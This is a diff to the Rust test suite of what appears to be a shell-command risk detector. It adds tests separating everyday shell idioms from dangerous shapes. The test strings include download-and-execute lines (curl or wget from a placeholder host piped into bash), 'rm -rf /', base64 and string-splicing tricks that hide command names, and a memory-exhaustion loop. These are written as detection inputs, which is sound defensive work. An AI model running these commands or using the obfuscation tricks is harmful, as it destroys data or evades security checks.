@@ -28,6 +28,7 @@ mod paths;
 mod recover;
 mod render;
 mod servers;
+mod transfer;
 mod walk;
 mod words;
 
@@ -453,7 +454,14 @@ mod tests {
         assert!(sig("bash -c \"$(curl -fsSL http://x)\"", "download-exec"));
         assert!(sig("source <(curl -s http://x)", "dynamic-code"));
         assert!(sig("source <(curl -s http://x)", "download-exec"));
-        assert!(sig("eval $x", "dynamic-code"));
+        // Code the script cannot see is dynamic when it comes from data the
+        // script does not control; the script's own arguments are not that.
+        assert!(sig("read -r x; eval \"$x\"", "dynamic-code"));
+        assert!(sig("eval \"$(sed 's/X//g' <<< 'iXd')\"", "dynamic-code"));
+        assert!(!sig("eval \"$1\"", "dynamic-code"));
+        assert!(!sig("eval 'echo hi'", "dynamic-code"));
+        assert!(sig("eval 'rm -rf /'", "recursive-delete-root"));
+        assert!(!sig("f() { eval \"$1=(\\\"$2\\\")\"; }", "dynamic-code"));
         assert!(sig("bash -c 'rm -rf /'", "recursive-delete-root"));
         assert!(sig(
             "wget http://x/a.sh -O /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh",
@@ -599,5 +607,41 @@ mod tests {
         assert!(cmd("echo héllo wörld", "echo"));
         let long_list = vec!["true"; 5000].join(" && ");
         assert!(extract(&long_list, &b).is_ok());
+    }
+
+    /// Issue 12 item 10: everyday idioms raise no obfuscation, dynamic-code
+    /// or resource signal; the same shapes fed by untrusted data still do.
+    #[test]
+    fn expansions_as_names_by_origin() {
+        for ok in [
+            "\"$@\"",
+            "nohup \"$@\" &",
+            "\"$EDITOR\" \"$file\"",
+            "\"${FUNCNAME[1]}\" x",
+            "PY=python3; $PY -V",
+            "exec \"$cmd_path\" \"$@\"",
+            "\"$ROOT/libexec/tool\" --version",
+            "$(type -P gawk awk | head -n1) '{print}' f",
+            "run_a() { :; }; impl=a; run_\"$impl\" x",
+            "\\ls -la",
+        ] {
+            no_signals(ok);
+        }
+        assert!(sig("read -r c; $c -la", "computed-name"));
+        assert!(sig("c=$(curl -s http://x/n); $c", "variable-command"));
+        assert!(sig(
+            "$(echo Y3VybA== | base64 -d) http://x",
+            "variable-command"
+        ));
+        assert!(sig("$(sed 's/X//g' <<< 'cuXrl') http://x", "computed-name"));
+        assert!(sig("p1=ba; p2=sh; \"$p1$p2\" -c id", "variable-command"));
+        assert!(sig("a=c; b=$a; c=url; $b$c http://x", "variable-command"));
+        assert!(cmd(
+            "p=$(which python3 || which python); $p -c 'print(1)'",
+            "python"
+        ));
+        assert!(sig("~/.../sh -c id", "string-obfuscation"));
+        assert!(!sig("while :; do echo hi; done", "resource-exhaustion"));
+        assert!(sig("a=x; while :; do a=$a$a; done", "resource-exhaustion"));
     }
 }
